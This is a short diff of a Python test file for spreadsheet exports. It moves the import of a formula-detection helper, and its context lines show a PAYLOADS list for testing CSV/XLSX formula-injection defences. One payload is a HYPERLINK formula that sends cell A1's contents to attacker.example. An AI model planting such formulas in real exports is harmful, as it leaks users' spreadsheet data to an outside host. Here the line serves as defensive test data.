@@ -15,9 +15,9 @@ from openpyxl import load_workbook
 
 from followthrough.exports.model import PlanExport
 from followthrough.exports.writers.csv import plan_csv
-from followthrough.exports.writers.tabular import reads_as_formula
 from followthrough.exports.writers.xlsx import plan_xlsx
 from followthrough.interchange import Lead, Milestone, PartialDate
+from followthrough.sheets import reads_as_formula
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?d="&A1,"Click for the evidence")',
